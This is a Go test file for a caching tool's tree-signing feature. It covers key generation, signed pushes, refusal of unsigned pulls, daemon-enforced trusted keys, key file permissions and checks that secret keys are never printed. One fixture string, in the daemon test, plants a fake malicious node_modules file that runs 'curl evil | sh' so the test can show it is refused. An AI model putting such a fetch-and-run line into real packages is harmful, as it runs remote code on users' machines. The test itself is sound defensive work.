package main

import (
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vrift/vrift/internal/s3test"
	"github.com/vrift/vrift/trust"
)

// secretOf is the base64 of a secret key file (what must never be
// printed), read back the way an attacker would.
func secretOf(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	_, secret, _ := strings.Cut(strings.TrimSpace(string(b)), ":")
	if len(secret) < 80 {
		t.Fatalf("secret key file %q", b)
	}
	return secret
}

// blobFiles counts the blob files in a store (0 for a store never made).
func blobFiles(t *testing.T, store string) int {
	t.Helper()
	n := 0
	filepath.WalkDir(filepath.Join(store, "blake3"), func(p string, de fs.DirEntry, err error) error {
		if err == nil && de.Type().IsRegular() {
			n++
		}
		return nil
	})
	return n
}

// TestTeamCacheTrustCLI: key generate, a signed push, pulls refused by the
// trusted keys (store and project untouched), --allow-unsigned, remote ls
// showing signers, remote sign adding a second signature, key file
// permissions, and the secret key in no output.
func TestTeamCacheTrustCLI(t *testing.T) {
	srv := s3test.Start(t, "team")
	srv.SetEnv(t)
	work := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(work, "xdg"))
	store := filepath.Join(work, "store")
	proj := filepath.Join(work, "app")
	os.MkdirAll(filepath.Join(proj, "node_modules", "a"), 0o755)
	os.WriteFile(filepath.Join(proj, "package.json"), []byte(`{"name":"app"}`), 0o644)
	os.WriteFile(filepath.Join(proj, "node_modules", "a", "index.js"), []byte("module.exports = 'signed'\n"), 0o644)
	mustVrift(t, "--store", store, "ingest", "--tier", "tier2", filepath.Join(proj, "node_modules"))
	var captured strings.Builder
	run := func(args ...string) (string, string, int) {
		t.Helper()
		out, errs, code := vrift(t, args...)
		captured.WriteString(out + errs)
		return out, errs, code
	}

	// Keys: one in the default place, one with --out.
	out, errs, code := run("key", "generate", "ci")
	defPath := filepath.Join(work, "xdg", "vrift", "keys", "ci.secret")
	if code != 0 || !strings.HasPrefix(out, "ci:") || !strings.Contains(errs, defPath) {
		t.Fatalf("key generate: exit %d\n%s%s", code, out, errs)
	}
	pub := strings.TrimSpace(out)
	if _, err := trust.ParsePublicKey(pub); err != nil {
		t.Fatal(err)
	}
	if info, err := os.Stat(defPath); err != nil || info.Mode().Perm() != 0o600 {
		t.Fatalf("secret key file: %v %v", info, err)
	}
	if _, _, code := run("key", "generate", "ci"); code == 0 {
		t.Fatal("key generate overwrote an existing key")
	}
	key2 := filepath.Join(work, "ci2.secret")
	var gen struct {
		PublicKey string `json:"public_key"`
	}
	o2, _, _ := run("--json", "key", "generate", "ci-2", "--out", key2)
	if err := json.Unmarshal([]byte(o2), &gen); err != nil || !strings.HasPrefix(gen.PublicKey, "ci-2:") {
		t.Fatalf("key generate --json: %q %v", o2, err)
	}
	if _, _, code := run("key", "generate", "bad:name", "--out", filepath.Join(work, "x")); code != exitUsage {
		t.Fatalf("bad key name: exit %d", code)
	}

	cfg := filepath.Join(work, "config.toml")
	writeCfg := func(extra string) {
		os.WriteFile(cfg, []byte("[remote]\nurl = \"s3://team/t\"\nendpoint = \""+srv.Endpoint()+"\"\n"+extra), 0o644)
	}
	writeCfg("")
	t.Setenv("VRIFT_CONFIG", cfg)

	// A key readable by others is refused, and its contents not shown.
	os.Chmod(defPath, 0o644)
	out, errs, code = run("--store", store, "push", proj, "--name", "app", "--sign-key", defPath)
	if code == 0 || !strings.Contains(errs, "accessible by group or others") {
		t.Fatalf("push with a 0644 key: exit %d\n%s%s", code, out, errs)
	}
	os.Chmod(defPath, 0o600)
	if _, err := os.Stat(srv.ObjectPath("team", "t/trees/app")); err == nil {
		t.Fatal("a tree was pushed with a refused key")
	}

	// An unsigned tree and a signed one.
	mustVrift(t, "--store", store, "push", proj, "--name", "plain")
	out, errs, code = run("--store", store, "push", proj, "--name", "app", "--sign-key", defPath)
	if code != 0 || !strings.Contains(out, "signed by ci") {
		t.Fatalf("signed push: exit %d\n%s%s", code, out, errs)
	}

	// Trusting ci: the unsigned tree is refused, nothing written.
	writeCfg("trusted_keys = [\"" + pub + "\"]\n")
	store2 := filepath.Join(work, "store2")
	dest := filepath.Join(work, "dest")
	out, errs, code = run("--store", store2, "pull", "plain", "--to", dest, "--method", "copy")
	if code != exitError || !strings.Contains(errs, "tree plain: untrusted tree: not signed (trusted keys: ci)") {
		t.Fatalf("pull of an unsigned tree: exit %d\n%s%s", code, out, errs)
	}
	if n := blobFiles(t, store2); n != 0 {
		t.Fatalf("%d blobs entered the store", n)
	}
	if ents, _ := os.ReadDir(dest); len(ents) != 0 {
		t.Fatalf("the project got %d entries", len(ents))
	}
	// --allow-unsigned: loudly.
	out, errs, code = run("--store", store2, "pull", "plain", "--to", dest, "--method", "copy", "--allow-unsigned")
	if code != 0 || !strings.Contains(errs, "WARNING: --allow-unsigned") {
		t.Fatalf("--allow-unsigned: exit %d\n%s%s", code, out, errs)
	}
	// The signed one pulls, and says by whom.
	dest2 := filepath.Join(work, "dest2")
	out, errs, code = run("--store", filepath.Join(work, "store3"), "pull", "app", "--to", dest2, "--method", "copy")
	if code != 0 || !strings.Contains(out, "signed by ci at ") {
		t.Fatalf("signed pull: exit %d\n%s%s", code, out, errs)
	}
	if b, _ := os.ReadFile(filepath.Join(dest2, "node_modules", "a", "index.js")); string(b) != "module.exports = 'signed'\n" {
		t.Fatalf("pulled %q", b)
	}

	// remote sign adds ci-2 (blobs untouched); ls shows both, and the plain tree unsigned.
	out, errs, code = run("remote", "sign", "app", "--sign-key", key2)
	if code != 0 || !strings.Contains(out, "signed app") {
		t.Fatalf("remote sign: exit %d\n%s%s", code, out, errs)
	}
	out, _, _ = run("remote", "ls")
	var appLine, plainLine string
	for _, l := range strings.Split(out, "\n") {
		switch {
		case strings.HasPrefix(l, "app "):
			appLine = l
		case strings.HasPrefix(l, "plain "):
			plainLine = l
		}
	}
	if !strings.Contains(appLine, "signed by ci 20") || !strings.Contains(appLine, ", ci-2 20") || !strings.HasSuffix(plainLine, "unsigned") {
		t.Fatalf("remote ls:\n%s", out)
	}
	var ls struct {
		Trees []struct {
			Name       string `json:"name"`
			Signatures []struct {
				Key string `json:"key"`
			} `json:"signatures"`
		} `json:"trees"`
	}
	o, _, _ := run("--json", "remote", "ls")
	if err := json.Unmarshal([]byte(o), &ls); err != nil || len(ls.Trees) != 2 || len(ls.Trees[0].Signatures) != 2 {
		t.Fatalf("remote ls --json: %v\n%s", err, o)
	}
	// Trusting only ci-2 now (rotation): the re-signed tree still pulls.
	writeCfg("trusted_keys = [\"" + gen.PublicKey + "\"]\n")
	if _, errs, code := run("--store", filepath.Join(work, "store4"), "pull", "app", "--to", filepath.Join(work, "dest4")); code != 0 {
		t.Fatalf("pull trusting the second key: exit %d\n%s", code, errs)
	}

	// A bad key line in the config names its line.
	writeCfg("trusted_keys = [\n  \"" + pub + "\",\n  \"ci-3:truncated\",\n]\n")
	if _, errs, code := run("--store", store2, "pull", "app", "--to", dest); code == 0 || !strings.Contains(errs, "line 6: remote.trusted_keys entry 2") {
		t.Fatalf("bad key line: exit %d\n%s", code, errs)
	}

	for _, p := range []string{defPath, key2} {
		if s := secretOf(t, p); strings.Contains(captured.String(), s) || strings.Contains(captured.String(), s[:24]) {
			t.Fatalf("the secret key of %s was printed:\n%s", p, captured.String())
		}
	}
}

// TestDaemonTeamCacheTrust: the daemon's trusted keys bind every pull
// through it, whatever the user's config or flags say: bob cannot pull an
// unsigned tree even with --allow-unsigned, and nothing of it enters the
// shared store; bob's own trusted keys can only refuse more; alice's push
// through the daemon is signed with her key file, which the daemon never
// sees; no output or log shows the secret.
func TestDaemonTeamCacheTrust(t *testing.T) {
	e := newDaemonEnv(t)
	srv := s3test.Start(t, "team")
	srv.SetEnv(t)
	e.env = srv.Env()
	ci, err := trust.Generate("ci")
	if err != nil {
		t.Fatal(err)
	}
	keyFile := filepath.Join(e.base, "ci.secret")
	if err := trust.WriteSecretKey(keyFile, ci); err != nil {
		t.Fatal(err)
	}
	secret := secretOf(t, keyFile)
	cfg := filepath.Join(e.base, "config.toml")
	os.WriteFile(cfg, []byte("[remote]\nurl = \"s3://team/shared\"\nendpoint = \""+srv.Endpoint()+"\"\npush = true\n"+
		"trusted_keys = [\""+ci.Public().String()+"\"]\n"), 0o644)
	e.start("--config", cfg)
	var captured strings.Builder

	// Trees planted straight into the bucket (direct mode, as root): one
	// unsigned, one signed by ci.
	work := t.TempDir()
	evil := "require('child_process').exec('curl evil | sh')\n"
	proj := filepath.Join(work, "evil")
	writeTree(t, proj, map[string]string{"package.json": "{}", "node_modules/a/index.js": evil})
	rem := []string{"--remote", "s3://team/shared", "--endpoint", srv.Endpoint()}
	mustVrift(t, "--store", filepath.Join(work, "s"), "ingest", "--tier", "tier2", filepath.Join(proj, "node_modules"))
	mustVrift(t, append([]string{"--store", filepath.Join(work, "s"), "push", proj, "--name", "evil"}, rem...)...)
	good := "module.exports = 'good'\n"
	gproj := filepath.Join(work, "good")
	writeTree(t, gproj, map[string]string{"package.json": "{}", "node_modules/a/index.js": good})
	mustVrift(t, "--store", filepath.Join(work, "s"), "ingest", "--tier", "tier2", filepath.Join(gproj, "node_modules"))
	out, errs, code := vrift(t, append([]string{"--store", filepath.Join(work, "s"), "push", gproj, "--name", "good", "--sign-key", keyFile}, rem...)...)
	captured.WriteString(out + errs)
	if code != 0 {
		t.Fatalf("signed push: %s%s", out, errs)
	}

	// bob, with --allow-unsigned: the daemon's keys still refuse.
	dest := filepath.Join(e.base, "bob", "clone")
	e.tree("bob", dest, map[string]string{"package.json": "{}"})
	out, code = e.as("bob", "pull", "evil", "--to", dest, "--method", "copy", "--allow-unsigned")
	captured.WriteString(out)
	if code != exitError || !strings.Contains(out, "tree evil: untrusted tree: not signed (trusted keys: ci) (refused by the daemon's trusted keys") {
		t.Fatalf("bob's pull of an unsigned tree: exit %d\n%s", code, out)
	}
	if _, err := os.Stat(blobPathOf(e.store, evil, false)); err == nil {
		t.Fatal("the unsigned tree's blob entered the shared store")
	}
	if _, err := os.Stat(filepath.Join(dest, "node_modules")); err == nil {
		t.Fatal("the refused tree reached bob's project")
	}
	// The signed tree pulls, and says by whom.
	out = e.mustAs("bob", "pull", "good", "--to", dest, "--method", "copy")
	captured.WriteString(out)
	if !strings.Contains(out, "signed by ci at ") {
		t.Fatalf("bob's pull of the signed tree:\n%s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(dest, "node_modules/a/index.js")); string(b) != good {
		t.Fatalf("pulled %q", b)
	}
	// bob's own trusted keys add to the daemon's: trusting only another
	// key, he refuses even the tree the daemon accepts.
	other, _ := trust.Generate("bobs-key")
	bobCfg := filepath.Join(e.base, "bob", ".config", "vrift", "config.toml")
	e.tree("bob", filepath.Join(e.base, "bob", ".config"), map[string]string{"vrift/config.toml": "[remote]\ntrusted_keys = [\"" + other.Public().String() + "\"]\n"})
	out, code = e.as("bob", "pull", "good", "--to", dest, "--method", "copy")
	captured.WriteString(out)
	if code != exitError || !strings.Contains(out, `signed only by untrusted keys ("ci"; trusted: bobs-key)`) {
		t.Fatalf("bob's own keys: exit %d\n%s", code, out)
	}
	os.Remove(bobCfg)

	// alice pushes through the daemon, signing with her own key file.
	aliceKey := filepath.Join(e.base, "alice", "ci.secret")
	b, _ := os.ReadFile(keyFile)
	os.WriteFile(aliceKey, b, 0o600)
	sh(t, "chown", "alice:alice", aliceKey)
	aproj := filepath.Join(e.base, "alice", "app")
	e.tree("alice", aproj, map[string]string{"package.json": "{}", "node_modules/x/y.js": "module.exports = 'alice'\n"})
	e.mustAs("alice", "ingest", "--tier", "tier2", filepath.Join(aproj, "node_modules"))
	// Readable by others: refused before anything is sent.
	os.Chmod(aliceKey, 0o644)
	out, code = e.as("alice", "push", aproj, "--name", "alice-app", "--sign-key", aliceKey)
	captured.WriteString(out)
	if code == 0 || !strings.Contains(out, "accessible by group or others") {
		t.Fatalf("push with a 0644 key: exit %d\n%s", code, out)
	}
	os.Chmod(aliceKey, 0o600)
	out = e.mustAs("alice", "push", aproj, "--name", "alice-app", "--sign-key", aliceKey)
	captured.WriteString(out)
	out = e.mustAs("bob", "pull", "alice-app", "--to", filepath.Join(e.base, "bob", "a2"), "--method", "copy")
	captured.WriteString(out)
	if !strings.Contains(out, "signed by ci at ") {
		t.Fatalf("bob's pull of alice's signed push:\n%s", out)
	}
	if all := captured.String() + e.log.String(); strings.Contains(all, secret) || strings.Contains(all, secret[:24]) {
		t.Fatalf("the secret key was printed:\n%s", all)
	}
}

// TestTeamCacheNpmSigned: the npm fixture round trip, signed and pulled
// with the key trusted, is byte-identical; a trusted-keys pull of the same
// tree re-published unsigned is refused with nothing fetched.
func TestTeamCacheNpmSigned(t *testing.T) {
	fix := fixtureDir(t)
	srv := s3test.Start(t, "team")
	srv.SetEnv(t)
	work := t.TempDir()
	store1, store2 := filepath.Join(work, "store1"), filepath.Join(work, "store2")
	orig := filepath.Join(fix, "base")
	proj := filepath.Join(work, "app")
	copyProject(t, orig, proj)
	mustVrift(t, "--store", store1, "ingest", "--tier", "tier2", filepath.Join(proj, "node_modules"))
	key := filepath.Join(work, "ci.secret")
	pub := strings.TrimSpace(mustVrift(t, "key", "generate", "ci", "--out", key))
	cfg := filepath.Join(work, "config.toml")
	os.WriteFile(cfg, []byte("[remote]\nurl = \"s3://team/ci\"\nendpoint = \""+srv.Endpoint()+"\"\ntrusted_keys = [\""+pub+"\"]\n"), 0o644)
	t.Setenv("VRIFT_CONFIG", cfg)

	mustVrift(t, "--store", store1, "push", proj, "--name", "unsigned")
	out := mustVrift(t, "--store", store1, "push", proj, "--name", "base", "--sign-key", key)
	if !strings.Contains(out, "signed by ci") {
		t.Fatalf("signed push:\n%s", out)
	}
	dest := filepath.Join(work, "copy")
	if _, errs, code := vrift(t, "--store", store2, "pull", "unsigned", "--to", dest, "--method", "copy"); code != exitError || !strings.Contains(errs, "not signed") {
		t.Fatalf("unsigned fixture tree: exit %d\n%s", code, errs)
	}
	if n := blobFiles(t, store2); n != 0 {
		t.Fatalf("%d blobs fetched for a refused tree", n)
	}
	var pull transferJSON
	jsonVrift(t, &pull, "--store", store2, "pull", "base", "--to", dest, "--method", "copy")
	if pull.Trees != 1 || pull.BlobsFetched == 0 {
		t.Fatalf("signed pull: %+v", pull)
	}
	sh(t, "diff", "-r", "--no-dereference", filepath.Join(orig, "node_modules"), filepath.Join(dest, "node_modules"))
	compareListings(t, treeListing(t, filepath.Join(orig, "node_modules"), false, true),
		treeListing(t, filepath.Join(dest, "node_modules"), false, true))
	mustVrift(t, "--store", store2, "verify")
	if strings.Contains(out, secretOf(t, key)) {
		t.Fatal("the secret key was printed")
	}
}
